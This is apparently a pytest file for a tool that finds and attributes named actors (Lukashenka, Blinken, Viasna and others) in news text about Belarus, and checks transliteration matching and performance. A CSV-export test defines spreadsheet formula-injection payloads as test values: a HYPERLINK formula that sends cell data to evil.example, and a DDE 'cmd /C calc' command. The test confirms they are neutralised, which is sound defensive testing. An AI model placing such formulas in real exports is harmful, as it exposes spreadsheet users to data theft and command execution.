"""Actors: the list, alias and transliteration matching, attribution, suggestions."""

import csv
import io
import json
import subprocess
import sys
import time
from types import SimpleNamespace

import pytest

from explorer import actors as actors_module
from explorer.actors import Actor, ActorIndex, actors_csv, load_actors, passage_actors, suggest
from explorer.sentences import sentence_spans

from .conftest import ROOT

INDEX = ActorIndex(load_actors())


def names(text):
    return [m.actor for m in INDEX.find(text)]


def test_list_covers_everyone_the_seeds_name():
    listed = {a.name for a in load_actors()}
    for name in ["Alyaksandr Lukashenka", "Antony Blinken", "Ihar Kenyukh", "Yauheni Shapetska", "Marie Struthers",
                 "Svyatlana Tsikhanouskaya", "U.S. State Department", "United States", "European Union",
                 "United Kingdom", "Canada", "OSCE", "Amnesty International", "Viasna Human Rights Center",
                 "Belarusian Association of Journalists", "Prosecutor General's Office of Belarus",
                 "Belarusian authorities", "RFE/RL", "Belsat", "Pozirk", "Voice of America"]:
        assert name in listed
    assert all(a.kind for a in load_actors())


@pytest.mark.parametrize("spelling", ["Lukashenka", "Alyaksandr Lukashenka", "Alaksandar Łukašenka", "Łukašenka",
                                      "Lukashenko", "Alexander Lukashenko", "LUKASHENKA", "Лукашенко", "Lukašenka"])
def test_lukashenka_in_every_spelling(spelling):
    assert names(f"Police loyal to {spelling} detained them.") == ["Alyaksandr Lukashenka"]


@pytest.mark.parametrize("spelling", ["Tsikhanouskaya", "Cichanoŭskaja", "Tikhanovskaya", "Svetlana Tikhanovskaya",
                                      "Sviatlana Tsikhanouskaya", "Cichanouskaja", "Tsikhanouskaja"])
def test_tsikhanouskaya_in_every_spelling(spelling):
    assert names(f"Opposition leader {spelling} spoke.") == ["Svyatlana Tsikhanouskaya"]


@pytest.mark.parametrize("text", ["the State Department said", "the U.S. Department of State said",
                                  "The US Department of State said", "the Department of State said"])
def test_state_department_spellings(text):
    assert names(text) == ["U.S. State Department"]


@pytest.mark.parametrize("text, actor, words", [
    ("Lukashenka's regime cracked down", "Alyaksandr Lukashenka", "Lukashenka"),
    ("Lukashenka’s regime cracked down", "Alyaksandr Lukashenka", "Lukashenka"),
    ("sanctions by the U.S. and allies", "United States", "U.S."),
    ("sanctions by the US and allies", "United States", "US"),
    ("sanctions by the USA and allies", "United States", "USA"),
    ("coordination with the EU.", "European Union", "EU"),
    ("with the U.K. and Canada", "United Kingdom", "U.K."),
    ("with the UK and Canada", "United Kingdom", "UK"),
    ("the Prosecutor General’s Office of Belarus announced", "Prosecutor General's Office of Belarus",
     "Prosecutor General’s Office of Belarus"),
])
def test_possessives_and_abbreviations(text, actor, words):
    found = INDEX.find(text)
    assert [(m.actor, m.text) for m in found][:1] == [(actor, words)]
    assert text[found[0].start:found[0].end] == words


@pytest.mark.parametrize("text", [
    "He told us that they would come.",  # the pronoun
    "Europeans travel freely; the euro rose.",  # eu inside words
    "Lieutenant Deus met them.",
    "The law granted amnesty to protesters.",  # the common noun
    "an amnesty international observers opposed",  # lower case
    "the state department of a small town",
])
def test_no_false_matches(text):
    assert "United States" not in names(text)
    assert "U.S. State Department" not in names(text)
    assert "European Union" not in names(text)
    assert "Amnesty International" not in names(text)


def test_capitalised_headline_words_still_match():
    assert names("BELARUS: AMNESTY INTERNATIONAL SAYS LUKASHENKA'S POLICE TORTURE") == [
        "Amnesty International", "Alyaksandr Lukashenka"]


def test_a_surname_two_listed_people_share_names_neither():
    index = ActorIndex([Actor("Anna Ivanova", "person", ("Anna Ivanova", "Ivanova")),
                        Actor("Maria Ivanova", "person", ("Maria Ivanova", "Ivanova"))])
    assert [m.actor for m in index.find("Ivanova said Maria Ivanova was detained.")] == ["Maria Ivanova"]
    assert ("ivanova",) in index.ambiguous


def test_speaker_of_a_quote_in_a_neighbouring_sentence_is_attributed():
    text = ("“Many prisoners were abused in 2021. Dozens of lawyers were jailed in March 2021,” "
            "Antony Blinken stressed. Police came.")
    passages = sentence_spans(text)
    per_passage = passage_actors(text, passages, INDEX)
    assert [sorted({m.actor for m in ms}) for ms in per_passage] == [["Antony Blinken"], ["Antony Blinken"], []]


def test_speaker_before_the_quote_and_a_pronoun_after_it():
    text = "Marie Struthers said: “Arrests went on in 2020.” Later a quote followed. “Nothing changed in 2021,” she said."
    passages = sentence_spans(text)
    per_passage = [sorted({m.actor for m in ms}) for ms in passage_actors(text, passages, INDEX)]
    assert per_passage[0] == ["Marie Struthers"]
    assert per_passage[-1] == ["Marie Struthers"]


# --- the seed table against the hand-checked gold --------------------------------------

GOLD = list(csv.DictReader((ROOT / "tests" / "gold" / "seed_actors.csv").read_text(encoding="utf-8").splitlines()))


def test_seed_actor_sets_match_the_gold(seed_table):
    got = {(r.doc_id, int(r.mention_start)): r.actors for r in seed_table.itertuples()}
    want = {(g["doc_id"], int(g["mention_start"])): g["actors"] for g in GOLD}
    assert got == want


def test_actor_mentions_carry_the_words_and_their_offsets(seed_corpus, seed_table):
    texts = {d.doc_id: d.text for d in seed_corpus.documents}
    seen = 0
    for r in seed_table.itertuples():
        mentions = json.loads(r.actor_mentions)
        assert sorted({m["actor"] for m in mentions}) == (r.actors.split(" | ") if r.actors else [])
        for m in mentions:
            assert texts[r.doc_id][m["start"]:m["end"]] == m["text"]
            seen += 1
    assert seen > 30


def test_suggest_lists_names_the_list_lacks(tmp_path):
    run = subprocess.run([sys.executable, "-m", "explorer", "actors", "suggest"], capture_output=True, text=True,
                         cwd=ROOT, check=True)
    rows = [line.split("\t") for line in run.stdout.splitlines()[1:]]
    found = {row[1]: int(row[0]) for row in rows}
    assert "Akrestsina" in found and "Minsk" in found
    assert "Lukashenka" not in found and "Amnesty International" not in found  # listed already
    assert "August" not in found and "December" not in found  # date words


# what `suggest` gave on the seeds before it was made linear (issue 19): it must not change
SEED_SUGGESTIONS = [("Belarus", 20), ("Belarusian", 5), ("West", 3), ("Belarusians", 2), ("Minsk", 2),
                    ("Akrestsina", 1), ("Sanctions", 1), ("Constitution", 1), ("Workers", 1),
                    ("Code of Administrative Offenses", 1), ("Eastern Europe and Central Asia", 1), ("Governments", 1),
                    ("Towards", 1)]


def test_suggestions_on_the_seeds_are_unchanged(seed_corpus):
    rows = suggest(seed_corpus.documents, INDEX, limit=1000)
    assert [(name, n) for name, n, _ in rows] == SEED_SUGGESTIONS
    passages = {d.text[s:e] for d in seed_corpus.documents for s, e in d.passages}
    assert all(example in passages and name.split()[0] in example for name, _, example in rows)


def _document(text):
    return SimpleNamespace(text=text, passages=[(0, len(text))])


def _steps(run) -> int:
    """Python steps (calls and lines) taken inside explorer/actors.py while `run()` runs:
    a measure of work that does not depend on how busy the machine is."""
    steps = 0

    def local(frame, event, arg):
        nonlocal steps
        steps += 1
        return local

    def calls(frame, event, arg):
        return local if frame.f_code.co_filename == actors_module.__file__ else None

    previous = sys.gettrace()  # a coverage tracer, if any, is put back
    sys.settrace(calls)
    try:
        run()
    finally:
        sys.settrace(previous)
    return steps


def _names_beside_actors(k):
    """Issue 19's shape: one sentence of made-up capitalised names beside a listed actor."""
    return "In Minsk " + "Lukashenka met Zorblat met " * k + "end."


def test_name_finding_work_grows_in_proportion_to_the_text():
    docs = {k: [_document(_names_beside_actors(k))] for k in (100, 800)}
    assert suggest(docs[100], INDEX) == [("Zorblat", 100, docs[100][0].text)]  # the listed name left out
    suggest(docs[100], INDEX)  # warm: imports and caches out of the count
    work = {k: _steps(lambda: suggest(doc, INDEX)) for k, doc in docs.items()}
    # linear: 8x the text, about 8x the steps (7.9 measured); checking every capital
    # against every listed name of its sentence took 54x
    assert work[800] / work[100] < 10, work
    found = {k: _steps(lambda: INDEX.find(doc[0].text)) for k, doc in docs.items()}
    assert found[800] / found[100] < 10, found


def test_a_run_of_spaces_after_a_name_costs_in_proportion_to_it():
    """The name pattern once tried every split of a run of spaces (quadratic in it). Timed, but
    in this process's CPU time (other processes' load does not count), the best of several, and
    as a ratio of equal amounts of linear work: 8 runs of 1x against 1 run of 8x, about 1 if
    linear (at most 1.3 seen on a loaded 2-core machine), about 8 if quadratic."""
    def text(n):
        return "In Minsk Zorblat" + " " * n + "met them."

    small, large = [_document(text(2_000))], [_document(text(16_000))]
    assert [name for name, _, _ in suggest(large, INDEX)] == ["Minsk Zorblat"]

    def best(run, times):
        samples = []
        for _ in range(5):
            start = time.process_time()
            for _ in range(times):
                run()
            samples.append(time.process_time() - start)
        return min(samples)

    ratio = best(lambda: suggest(large, INDEX), 1) / best(lambda: suggest(small, INDEX), 8)
    assert ratio < 3, ratio


HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"open")'
CALC = "=cmd|' /C calc'!A0"


def test_actor_list_csv_guards_formulas_and_reads_back(tmp_path):
    typed = [Actor(HYPERLINK, "person", (HYPERLINK,)),
             # CALC typed as other spellings: the page splits it at "|"
             Actor("Akrestsina", "place", ("Akrestsina", "=cmd", "' /C calc'!A0")),
             Actor(CALC, "+1+1", (CALC, "Calc")),
             Actor("Anna", "person", ("Anna", "-2+3", "@SUM(A1)", "'=already quoted"))]
    data = actors_csv(typed)
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # nothing a spreadsheet would run
    assert "'=HYPERLINK" in data.decode() and "'=cmd|' /C calc'!A0" in data.decode()
    (tmp_path / "actors.csv").write_bytes(data)
    assert load_actors(tmp_path / "actors.csv") == typed


def test_the_shipped_actor_list_reads_back_unchanged(tmp_path):
    (tmp_path / "actors.csv").write_bytes(actors_csv(load_actors()))
    assert load_actors(tmp_path / "actors.csv") == load_actors()


def _named(passage, *names):
    """actor_mentions JSON for `names` (actor, words) as they stand in `passage` (at offset 100)."""
    return json.dumps([{"actor": actor, "text": words, "start": 100 + passage.index(words),
                        "end": 100 + passage.index(words) + len(words)} for actor, words in names])


def test_a_clause_belongs_to_the_actors_it_names_not_to_every_name_in_the_sentence():
    passage = ("The State Department named Ihar Kenyukh and Yauheni Shapetska for abuse during "
               "Lukashenka's crackdown after the August 2020 vote.")
    found = _named(passage, ("U.S. State Department", "State Department"), ("Ihar Kenyukh", "Ihar Kenyukh"),
                   ("Yauheni Shapetska", "Yauheni Shapetska"), ("Alyaksandr Lukashenka", "Lukashenka"))
    assert actors_module.clause_actors(passage, 100, "Lukashenka's crackdown after the August 2020 vote", found) == [
        "Alyaksandr Lukashenka"]
    assert actors_module.clause_actors(passage, 100, "The State Department named Ihar Kenyukh and Yauheni Shapetska",
                                       found) == ["Ihar Kenyukh", "U.S. State Department", "Yauheni Shapetska"]


def test_a_clause_naming_nobody_takes_its_subject_before_it_else_the_name_after_it():
    passage = "Lukashenka, in power since 1994, was declared the winner, Viasna says."
    found = _named(passage, ("Alyaksandr Lukashenka", "Lukashenka"), ("Viasna", "Viasna"))
    assert actors_module.clause_actors(passage, 100, "in power since 1994", found) == ["Alyaksandr Lukashenka"]
    alone = "Since 2020 more than 400 journalists have left, the BAJ says."
    assert actors_module.clause_actors(alone, 100, "Since 2020 more than 400 journalists have left",
                                       _named(alone, ("BAJ", "BAJ"))) == ["BAJ"]
    assert actors_module.clause_actors(alone, 100, "Since 2020 more than 400 journalists have left", "[]") == []
    # a clause not found as written (a hand-made row) keeps every name
    assert actors_module.clause_actors(passage, 100, "words of our own", found) == ["Alyaksandr Lukashenka", "Viasna"]
